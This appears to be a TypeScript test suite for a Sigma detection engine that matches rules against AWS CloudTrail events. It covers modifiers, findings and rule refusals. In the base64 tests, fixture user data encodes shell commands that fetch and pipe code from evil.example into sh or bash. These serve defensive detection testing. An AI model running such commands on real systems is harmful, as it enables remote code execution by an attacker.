// The Sigma engine on single events: field resolution, values and modifiers as the Sigma
// specification defines them, what a finding says, refusals with file and line, and the eventName index.
import * as assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { builtinRulesDir, readRuleFolders } from '../../../src/core/detections/ruleFiles';
import { compileRules, detect, meetsLevel } from '../../../src/core/detections/ruleSet';
import type { CloudTrailRecord } from '../../../src/core/events/records';
import { assumedRole, record } from '../../fixtures/records';
import { compile, loaded, matches, refusalsOf, ruleText } from './engineHelpers';

const consoleLogin = (mfa: string): CloudTrailRecord =>
  record({ eventSource: 'signin.amazonaws.com', eventName: 'ConsoleLogin', additionalEventData: { MFAUsed: mfa, LoginTo: 'https://console.aws.amazon.com/' }, responseElements: { ConsoleLogin: 'Success' } });

describe('Sigma engine: fields and values', () => {
  it('matches case-insensitively by default (MFAUsed: NO matches "No")', () => {
    assert.ok(matches({ eventName: 'consolelogin', 'additionalEventData.MFAUsed': 'NO' }, consoleLogin('No')));
    assert.ok(!matches({ eventName: 'ConsoleLogin', 'additionalEventData.MFAUsed': 'No' }, consoleLogin('Yes')));
  });

  it('walks dotted fields, into arrays (any element), and finds keys that hold dots', () => {
    const r = record({ userIdentity: assumedRole('bob'), resources: [{ ARN: 'arn:aws:s3:::logs' }, { ARN: 'arn:aws:s3:::secret' }], requestParameters: { 'x-amz-server-side-encryption': 'AES256', 'a.b': 'dotted' } });
    assert.ok(matches({ 'userIdentity.sessionContext.sessionIssuer.userName': 'AdminRole' }, r));
    assert.ok(matches({ 'resources.ARN': 'arn:aws:s3:::secret' }, r));
    assert.ok(matches({ 'requestParameters.x-amz-server-side-encryption': 'aes256' }, r));
    assert.ok(matches({ 'requestParameters.a.b': 'dotted' }, r));
    assert.ok(!matches({ 'resources.ARN': 'arn:aws:s3:::other' }, r));
  });

  it('ORs a list of values, ANDs the fields of a map, ORs a list of maps', () => {
    const r = record({ eventName: 'DeleteTrail', eventSource: 'cloudtrail.amazonaws.com' });
    assert.ok(matches({ eventName: ['StopLogging', 'DeleteTrail'] }, r));
    assert.ok(!matches({ eventName: ['StopLogging', 'DeleteTrail'], eventSource: 's3.amazonaws.com' }, r));
    assert.ok(matches([{ eventName: 'StopLogging' }, { eventSource: 'cloudtrail.amazonaws.com' }], r));
    assert.ok(!matches([{ eventName: 'StopLogging' }, { eventSource: 's3.amazonaws.com' }], r));
  });

  it('applies * and ? wildcards, and the escapes \\*, \\? and \\\\', () => {
    const r = record({ eventName: 'PutBucketPolicy', userAgent: 'a*b?c\\d', requestParameters: { p: 'x\\*y' } });
    assert.ok(matches({ eventName: 'Put*Policy' }, r));
    assert.ok(matches({ eventName: 'PutBucketPolic?' }, r));
    assert.ok(!matches({ eventName: 'PutBucketPoli?' }, r));
    assert.ok(matches({ userAgent: 'a\\*b\\?c\\d' }, r)); // escaped wildcards; a lone backslash is itself
    assert.ok(matches({ userAgent: 'a\\*b\\?c\\\\d' }, r)); // \\ is one backslash
    assert.ok(!matches({ userAgent: 'a\\*bX\\?c\\d' }, r));
    assert.ok(matches({ userAgent: 'aXb\\?c\\d' }, record({ userAgent: 'aXb?c\\d' })));
    assert.ok(!matches({ userAgent: 'a\\*b*' }, record({ userAgent: 'aXb' })));
    // The specification's `\\\*`: a backslash, then a literal star.
    assert.ok(matches({ 'requestParameters.p': 'x\\\\\\*y' }, r));
    // `\\*`: a backslash, then a wildcard.
    assert.ok(matches({ 'requestParameters.p': 'x\\\\*' }, r));
  });

  it('takes null as a missing field or JSON null, and an empty string as an empty string', () => {
    const r = record({ requestParameters: null, userAgent: '' });
    assert.ok(matches({ requestParameters: null }, r));
    assert.ok(matches({ 'additionalEventData.MFAUsed': null }, r));
    assert.ok(!matches({ eventName: null }, r));
    assert.ok(matches({ userAgent: '' }, r));
    assert.ok(!matches({ eventName: '' }, r));
  });

  it('compares booleans and numbers as text', () => {
    assert.ok(matches({ readOnly: true }, record({ readOnly: true })));
    assert.ok(matches({ readOnly: true }, record({ readOnly: 'true' })));
    assert.ok(matches({ readOnly: 'TRUE' }, record({ readOnly: true })));
    assert.ok(!matches({ readOnly: false }, record({ readOnly: true })));
    assert.ok(matches({ 'requestParameters.maxCount': 1 }, record({ requestParameters: { maxCount: 1 } })));
    assert.ok(matches({ 'requestParameters.maxCount': 1 }, record({ requestParameters: { maxCount: '1' } })));
    assert.ok(matches({ 'requestParameters.maxCount': '1' }, record({ requestParameters: { maxCount: 1 } })));
  });

  it('matches a field holding a list when any element does, and an object as its JSON text', () => {
    const r = record({ requestParameters: { names: ['a', 'b'], policy: { Statement: [{ Effect: 'Allow', Principal: '*' }] } } });
    assert.ok(matches({ 'requestParameters.names': 'b' }, r));
    assert.ok(!matches({ 'requestParameters.names': 'c' }, r));
    assert.ok(matches({ 'requestParameters.policy|contains': '"Principal":"*"' }, r));
    assert.ok(matches({ 'requestParameters.policy.Statement.Effect': 'allow' }, r));
  });
});

describe('Sigma engine: modifiers', () => {
  const r = record({ eventName: 'PutBucketPolicy', userAgent: 'aws-cli/2.15.0 Python/3.11', sourceIPAddress: '10.1.2.3' });

  it('contains, startswith, endswith (with wildcards inside)', () => {
    assert.ok(matches({ 'userAgent|contains': 'CLI/2' }, r));
    assert.ok(matches({ 'userAgent|startswith': 'aws-cli' }, r));
    assert.ok(matches({ 'userAgent|endswith': 'python/3.11' }, r));
    assert.ok(!matches({ 'userAgent|startswith': 'python' }, r));
    assert.ok(matches({ 'userAgent|contains': 'cli/*python' }, r));
    assert.ok(!matches({ 'userAgent|endswith': 'aws' }, r));
  });

  it('all: every value of the list must match', () => {
    assert.ok(matches({ 'userAgent|contains|all': ['aws-cli', 'python'] }, r));
    assert.ok(!matches({ 'userAgent|contains|all': ['aws-cli', 'boto3'] }, r));
    assert.ok(matches({ 'userAgent|contains': ['aws-cli', 'boto3'] }, r));
  });

  it('cased: case-sensitive', () => {
    assert.ok(matches({ 'eventName|cased': 'PutBucketPolicy' }, r));
    assert.ok(!matches({ 'eventName|cased': 'putbucketpolicy' }, r));
    assert.ok(matches({ 'userAgent|contains|cased': 'Python' }, r));
    assert.ok(!matches({ 'userAgent|contains|cased': 'python' }, r));
  });

  it('re: case-sensitive by default, with the i, m and s sub-modifiers and PCRE inline flags', () => {
    assert.ok(matches({ 'eventName|re': '^Put.*Policy$' }, r));
    assert.ok(!matches({ 'eventName|re': '^put.*policy$' }, r));
    assert.ok(matches({ 'eventName|re|i': '^put.*policy$' }, r));
    assert.ok(matches({ 'eventName|re': '(?i)^put.*policy$' }, r));
    const multi = record({ userAgent: 'first\nsecond' });
    assert.ok(!matches({ 'userAgent|re': '^second$' }, multi));
    assert.ok(matches({ 'userAgent|re|m': '^second$' }, multi));
    assert.ok(!matches({ 'userAgent|re': 'first.second' }, multi));
    assert.ok(matches({ 'userAgent|re|s': 'first.second' }, multi));
  });

  it('cidr: IPv4 and IPv6 ranges; other source addresses never match', () => {
    assert.ok(matches({ 'sourceIPAddress|cidr': '10.0.0.0/8' }, r));
    assert.ok(!matches({ 'sourceIPAddress|cidr': '192.168.0.0/16' }, r));
    assert.ok(matches({ 'sourceIPAddress|cidr': ['192.168.0.0/16', '10.1.0.0/16'] }, r));
    assert.ok(matches({ 'sourceIPAddress|cidr': '2001:db8::/32' }, record({ sourceIPAddress: '2001:db8:1::7' })));
    assert.ok(!matches({ 'sourceIPAddress|cidr': '2001:db8::/32' }, record({ sourceIPAddress: '2001:db9::7' })));
    assert.ok(!matches({ 'sourceIPAddress|cidr': '10.0.0.0/8' }, record({ sourceIPAddress: 'AWS Internal' })));
    assert.ok(!matches({ 'sourceIPAddress|cidr': '10.0.0.0/8' }, record({ sourceIPAddress: 'ec2.amazonaws.com' })));
  });

  it('exists: true and false', () => {
    const withNull = record({ requestParameters: null });
    assert.ok(matches({ 'userAgent|exists': true }, r));
    assert.ok(!matches({ 'errorCode|exists': true }, r));
    assert.ok(matches({ 'errorCode|exists': false }, r));
    assert.ok(matches({ 'requestParameters|exists': true }, withNull)); // present, even if null
  });

  it('fieldref: equal to another field, and with contains, startswith, endswith', () => {
    const self = record({ userIdentity: { type: 'IAMUser', userName: 'alice', arn: 'arn:aws:iam::111122223333:user/alice' }, requestParameters: { userName: 'Alice' } });
    assert.ok(matches({ 'requestParameters.userName|fieldref': 'userIdentity.userName' }, self));
    assert.ok(!matches({ 'requestParameters.userName|fieldref|cased': 'userIdentity.userName' }, self));
    assert.ok(matches({ 'userIdentity.arn|fieldref|endswith': 'requestParameters.userName' }, self));
    assert.ok(matches({ 'userIdentity.arn|fieldref|contains': 'userIdentity.userName' }, self));
    assert.ok(!matches({ 'userIdentity.arn|fieldref|startswith': 'userIdentity.userName' }, self));
    assert.ok(!matches({ 'requestParameters.userName|fieldref': 'userIdentity.nothing' }, self));
  });

  it('base64 and base64offset|contains (the specification’s example values)', () => {
    const encoded = Buffer.from('echo http://evil.example/x | sh', 'utf8').toString('base64');
    const ud = record({ requestParameters: { userData: encoded } });
    assert.ok(matches({ 'requestParameters.userData|base64': 'echo http://evil.example/x | sh' }, ud));
    assert.ok(!matches({ 'requestParameters.userData|base64': 'echo' }, ud));
    assert.ok(matches({ 'requestParameters.userData|base64|startswith': 'echo h' }, ud));
    for (const prefix of ['', 'a', 'ab', 'abc']) {
      const text = Buffer.from(`${prefix}#!/bin/bash curl http://evil.example`, 'utf8').toString('base64');
      assert.ok(matches({ 'requestParameters.userData|base64offset|contains': '/bin/bash' }, record({ requestParameters: { userData: text } })), prefix);
    }
    assert.ok(!matches({ 'requestParameters.userData|base64offset|contains': '/bin/zsh' }, ud));
  });

  it('windash: - and / and the other dashes are interchangeable at the start of a word', () => {
    const cmd = record({ requestParameters: { command: 'tool /force now' } });
    assert.ok(matches({ 'requestParameters.command|windash|contains': ' -force' }, cmd));
    assert.ok(matches({ 'requestParameters.command|windash|contains': ' \u2013force' }, cmd));
    assert.ok(!matches({ 'requestParameters.command|contains': ' -force' }, cmd));
  });

  it('lt, lte, gt, gte compare numbers; neq matches a value that is none of the given', () => {
    const n = record({ requestParameters: { durationSeconds: '43200' } });
    assert.ok(matches({ 'requestParameters.durationSeconds|gt': 3600 }, n));
    assert.ok(matches({ 'requestParameters.durationSeconds|gte': 43200 }, n));
    assert.ok(!matches({ 'requestParameters.durationSeconds|lt': 43200 }, n));
    assert.ok(matches({ 'requestParameters.durationSeconds|lte': 43200 }, n));
    assert.ok(!matches({ 'userAgent|gt': 1 }, n));
    assert.ok(matches({ 'awsRegion|neq': ['eu-west-1', 'eu-central-1'] }, n));
    assert.ok(!matches({ 'awsRegion|neq': ['us-east-1', 'eu-central-1'] }, n));
  });
});

describe('Sigma engine: findings', () => {
  const STOP = {
    selection: { eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging' },
    condition: 'selection',
  };
  const FIELDS = { title: 'Trail logging stopped', id: 'stop-logging', level: 'high', author: 'Test Author', license: 'MIT', tags: ['attack.defense-evasion', 'attack.t1562.008', 'attack.g0016', 'attack.s0002'] };

  it('says what a user sees: rule, level, tags as techniques and tactics, matched fields, the event and its outcome', () => {
    const set = loaded(STOP, FIELDS);
    const ev = record({ eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging', eventID: 'ev-1', eventTime: '2026-11-01T10:00:00Z' });
    const [f] = set.match(ev).findings;
    assert.equal(f.ruleId, 'stop-logging');
    assert.equal(f.title, 'Trail logging stopped');
    assert.equal(f.level, 'high');
    assert.equal(f.author, 'Test Author');
    assert.equal(f.license, 'MIT');
    assert.equal(f.origin, 'user');
    assert.deepEqual(f.techniques, ['T1562.008']);
    assert.deepEqual(f.tactics, ['defense-evasion']);
    assert.deepEqual(f.eventIds, ['ev-1']);
    assert.equal(f.firstTime, '2026-11-01T10:00:00Z');
    assert.equal(f.lastTime, '2026-11-01T10:00:00Z');
    assert.deepEqual(f.matched, [
      { field: 'eventSource', value: 'cloudtrail.amazonaws.com' },
      { field: 'eventName', value: 'StopLogging' },
    ]);
    assert.deepEqual(f.outcome, { status: 'succeeded' });
    const denied = set.match({ ...ev, errorCode: 'AccessDenied', errorMessage: 'x'.repeat(500) }).findings[0];
    assert.equal(denied.outcome.status, 'attempted');
    assert.ok(denied.outcome.status === 'attempted' && denied.outcome.errorCode === 'AccessDenied' && (denied.outcome.errorMessage ?? '').length <= 200);
  });

  it('defaults the level to medium, and collects nothing from a `not` part', () => {
    const set = loaded({ selection: { eventName: 'PutBucketPolicy' }, filter: { 'userIdentity.userName': 'admin' }, condition: 'selection and not filter' });
    const [f] = set.match(record({ eventName: 'PutBucketPolicy' })).findings;
    assert.equal(f.level, 'medium');
    assert.deepEqual(f.matched, [{ field: 'eventName', value: 'PutBucketPolicy' }]);
    assert.equal(set.match(record({ eventName: 'PutBucketPolicy', userIdentity: { type: 'IAMUser', userName: 'admin' } })).findings.length, 0);
  });

  it('shows the event’s value, truncated, not the rule’s', () => {
    const set = loaded({ selection: { 'requestParameters.policy|contains': 'principal' }, condition: 'selection' });
    const long = `{"Principal":"*","pad":"${'x'.repeat(400)}"}`;
    const [f] = set.match(record({ requestParameters: { policy: long } })).findings;
    assert.equal(f.matched[0].field, 'requestParameters.policy');
    assert.ok(f.matched[0].value.startsWith('{"Principal":"*"'));
    assert.ok(f.matched[0].value.length <= 200);
  });

  it('skips disabled rules by id or exact title', () => {
    const text = ruleText(STOP, FIELDS);
    assert.equal(compile([text], { disabled: ['stop-logging'] }).rules.length, 0);
    assert.equal(compile([text], { disabled: ['Trail logging stopped'] }).rules.length, 0);
    assert.equal(compile([text], { disabled: ['trail logging stopped'] }).rules.length, 1);
  });

  it('keeps running the other rules when one throws on a record', () => {
    const set = compile([ruleText({ selection: { 'boom|contains': 'x' }, condition: 'selection' }, { id: 'throws' }), ruleText({ selection: { eventName: 'DescribeInstances' }, condition: 'selection' }, { id: 'fine' })]);
    assert.deepEqual(set.refused, []);
    const ev = record();
    Object.defineProperty(ev, 'boom', {
      enumerable: true,
      get() {
        throw new Error('hostile getter');
      },
    });
    const m = set.match(ev);
    assert.deepEqual(
      m.findings.map((f) => f.ruleId),
      ['fine'],
    );
  });

  it('detect() matches every record and sorts findings by time, then rule id', () => {
    const set = compile([ruleText({ s: { eventName: 'A' }, condition: 's' }, { id: 'b-rule' }), ruleText({ s: { 'eventName|startswith': 'A' }, condition: 's' }, { id: 'a-rule' })]);
    const found = detect([record({ eventName: 'A', eventTime: '2026-11-01T10:05:00Z' }), record({ eventName: 'A', eventTime: '2026-11-01T10:00:00Z' })], set);
    assert.deepEqual(
      found.map((f) => `${f.firstTime} ${f.ruleId}`),
      ['2026-11-01T10:00:00Z a-rule', '2026-11-01T10:00:00Z b-rule', '2026-11-01T10:05:00Z a-rule', '2026-11-01T10:05:00Z b-rule'],
    );
  });

  it('meetsLevel orders the levels', () => {
    assert.ok(meetsLevel('high', 'medium'));
    assert.ok(meetsLevel('medium', 'medium'));
    assert.ok(!meetsLevel('low', 'medium'));
    assert.ok(meetsLevel('critical', 'informational'));
  });
});

describe('Sigma engine: refusals name the file and line', () => {
  const header = 'title: Bad rule\nid: bad-rule\nlogsource:\n  product: aws\n  service: cloudtrail\n';

  it('an unknown modifier, by name, on its line', () => {
    const text = `${header}detection:\n  selection:\n    eventName|nosuch: StopLogging\n  condition: selection\n`;
    const set = compileRules([{ file: '/rules/bad.yml', text, origin: 'user' }]);
    assert.equal(set.rules.length, 0);
    assert.equal(set.refused.length, 1);
    assert.equal(set.refused[0].file, '/rules/bad.yml');
    assert.equal(set.refused[0].line, 8);
    assert.equal(set.refused[0].ruleId, 'bad-rule');
    assert.equal(set.refused[0].title, 'Bad rule');
    assert.match(set.refused[0].message, /unknown modifier 'nosuch'/);
  });

  it('an invalid regular expression, on the line of its value', () => {
    const text = `${header}detection:\n  selection:\n    eventName|re:\n      - '^ok$'\n      - '([a-z'\n  condition: selection\n`;
    assert.deepEqual(refusalsOf(text).map((r) => r.line), [10]);
    assert.match(refusalsOf(text)[0].message, /invalid regular expression/);
  });

  it('the old aggregation syntax, pointing at correlation rules', () => {
    const text = `${header}detection:\n  selection:\n    eventName: ConsoleLogin\n  condition: selection | count() by sourceIPAddress > 10\n`;
    const [r] = refusalsOf(text);
    assert.equal(r.line, 9);
    assert.match(r.message, /count\(\).*correlation rule/);
    assert.match(refusalsOf(text.replace('| count() by sourceIPAddress > 10', '| near other'))[0].message, /near.*correlation/);
  });

  it('an unknown identifier in the condition, and a missing condition', () => {
    const unknown = `${header}detection:\n  selection:\n    eventName: ConsoleLogin\n  condition: selection and not filter\n`;
    assert.deepEqual(refusalsOf(unknown), [{ line: 9, message: "the condition names 'filter', which the detection does not define" }]);
    const missing = `${header}detection:\n  selection:\n    eventName: ConsoleLogin\n`;
    assert.deepEqual(refusalsOf(missing), [{ line: 6, message: 'the detection has no condition' }]);
  });

  it('a rule that is not for CloudTrail, and one with no title or id', () => {
    const windows = 'title: Win\nid: win-1\nlogsource:\n  product: windows\n  service: security\ndetection:\n  s:\n    EventID: 4625\n  condition: s\n';
    const [r] = refusalsOf(windows);
    assert.equal(r.line, 3);
    assert.match(r.message, /not a CloudTrail rule \(logsource product: windows, service: security\)/);
    assert.match(refusalsOf('id: x\nlogsource: {product: aws, service: cloudtrail}\ndetection: {s: {a: 1}, condition: s}\n')[0].message, /no title/);
    assert.match(refusalsOf('title: x\nlogsource: {product: aws, service: cloudtrail}\ndetection: {s: {a: 1}, condition: s}\n')[0].message, /no id/);
  });

  it('a duplicate id across files: the second one, at its id line', () => {
    const text = ruleText({ s: { eventName: 'A' }, condition: 's' }, { id: 'same-id' });
    const set = compile([text, `# another file\n${text}`]);
    assert.equal(set.rules.length, 1);
    assert.equal(set.refused.length, 1);
    assert.equal(set.refused[0].file, '/rules/test-1.yml');
    assert.equal(set.refused[0].line, 3);
    assert.match(set.refused[0].message, /duplicate rule id same-id: \/rules\/test-0\.yml:1/);
  });

  it('each document of a file separately, at its own line; keyword searches and YAML errors', () => {
    const ok = ruleText({ s: { eventName: 'A' }, condition: 's' }, { id: 'ok' });
    const keywords = 'title: K\nid: k\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  keywords:\n    - evil\n  condition: keywords\n';
    const text = `${ok}---\n${keywords}`;
    const okLines = ok.split('\n').length;
    const set = compile([text]);
    assert.deepEqual(
      set.rules.map((r) => r.id),
      ['ok'],
    );
    assert.equal(set.refused.length, 1);
    assert.equal(set.refused[0].line, okLines + 5);
    assert.match(set.refused[0].message, /keyword search/);
    const broken = compile(['title: x\nid: [unclosed\n']).refused;
    assert.equal(broken.length, 1);
    assert.match(broken[0].message, /not valid YAML/);
  });

  it('a modifier CloudTrail has no use for, conflicting modifiers, exists without a boolean', () => {
    assert.match(refusalsOf(ruleText({ s: { 'eventName|utf16le|base64offset|contains': 'x' }, condition: 's' }))[0].message, /utf16le.*not supported/);
    assert.match(refusalsOf(ruleText({ s: { 'eventName|contains|startswith': 'x' }, condition: 's' }))[0].message, /cannot be combined/);
    assert.match(refusalsOf(ruleText({ s: { 'eventName|base64offset': 'x' }, condition: 's' }))[0].message, /needs 'contains'/);
    assert.match(refusalsOf(ruleText({ s: { 'eventName|exists': 'yes' }, condition: 's' }))[0].message, /exists/);
    assert.match(refusalsOf(ruleText({ s: { 'sourceIPAddress|cidr': '10.0.0.0/99' }, condition: 's' }))[0].message, /not a CIDR/);
  });
});

describe('Sigma engine: eventName index', () => {
  const info = (detection: Record<string, unknown>): string[] | undefined => loaded(detection).rules[0].eventNames;

  it('pins a rule whose every match needs one of a set of eventNames', () => {
    assert.deepEqual(info({ selection: { eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging' }, condition: 'selection' }), ['StopLogging']);
    assert.deepEqual(info({ selection: { eventName: ['StopLogging', 'DeleteTrail'] }, filter: { 'userIdentity.userName': 'x' }, condition: 'selection and not filter' }), ['StopLogging', 'DeleteTrail']);
    assert.deepEqual(info({ a: { eventName: 'A' }, b: { eventName: 'B', errorCode: 'X' }, condition: '1 of a or b' }), ['A', 'B']);
    assert.deepEqual(info({ a: { eventName: ['A', 'B'] }, b: { eventName: ['B', 'C'] }, condition: 'a and b' }), ['B']);
    assert.deepEqual(info({ a: { eventName: 'A' }, b: { errorCode: 'X' }, condition: 'a and b' }), ['A']);
  });

  it('leaves unpinned what can match any eventName: not, or across an unpinned side, wildcards', () => {
    assert.equal(info({ a: { eventName: 'A' }, condition: 'not a' }), undefined);
    assert.equal(info({ a: { eventName: 'A' }, b: { errorCode: 'X' }, condition: 'a or b' }), undefined);
    assert.equal(info({ a: { 'eventName|startswith': 'Delete' }, condition: 'a' }), undefined);
    assert.equal(info({ a: { eventName: 'Delete*' }, condition: 'a' }), undefined);
    assert.equal(info({ a: [{ eventName: 'A' }, { errorCode: 'X' }], condition: 'a' }), undefined);
  });

  it('still matches pinned rules whatever the case of the record’s eventName, and unpinned ones on any', () => {
    const set = compile([
      ruleText({ s: { eventName: 'StopLogging' }, condition: 's' }, { id: 'pinned' }),
      ruleText({ s: { errorCode: 'AccessDenied' }, condition: 's' }, { id: 'any' }),
    ]);
    assert.deepEqual(
      set.match(record({ eventName: 'stoplogging', errorCode: 'AccessDenied' })).findings.map((f) => f.ruleId).sort(),
      ['any', 'pinned'],
    );
    assert.deepEqual(
      set.match(record({ eventName: 'Other', errorCode: 'AccessDenied' })).findings.map((f) => f.ruleId),
      ['any'],
    );
    assert.deepEqual(set.match(record({ eventName: undefined })).findings, []);
  });
});

describe('Sigma engine: reading rule folders', () => {
  it('reads .yml and .yaml recursively, refuses a file over 1 MB and a missing folder, and does not follow linked folders', async () => {
    const root = mkdtempSync(path.join(tmpdir(), 'rules-'));
    const outside = mkdtempSync(path.join(tmpdir(), 'outside-'));
    writeFileSync(path.join(outside, 'elsewhere.yml'), 'title: x\n');
    mkdirSync(path.join(root, 'sub', 'deeper'), { recursive: true });
    writeFileSync(path.join(root, 'a.yml'), 'title: a\n');
    writeFileSync(path.join(root, 'sub', 'b.yaml'), 'title: b\n');
    writeFileSync(path.join(root, 'sub', 'deeper', 'c.YML'), 'title: c\n');
    writeFileSync(path.join(root, 'notes.txt'), 'not a rule');
    writeFileSync(path.join(root, 'huge.yml'), `# ${'x'.repeat(1024 * 1024)}\n`);
    symlinkSync(outside, path.join(root, 'linked'), 'dir');
    const missing = path.join(root, 'missing');
    const { sources, refused } = await readRuleFolders([root, missing], 'user');
    assert.deepEqual(
      sources.map((s) => path.relative(root, s.file)).sort(),
      ['a.yml', path.join('sub', 'b.yaml'), path.join('sub', 'deeper', 'c.YML')].sort(),
    );
    assert.ok(sources.every((s) => s.origin === 'user'));
    assert.equal(refused.length, 2);
    assert.match(refused.find((r) => r.file.endsWith('huge.yml'))?.message ?? '', /at most 1 MB/);
    const gone = refused.find((r) => r.file === missing);
    assert.equal(gone?.line, 0);
    assert.match(gone?.message ?? '', /missing/);
  });

  it('finds the shipped rule pack', () => {
    assert.ok(path.basename(builtinRulesDir()) === 'rules');
  });
});
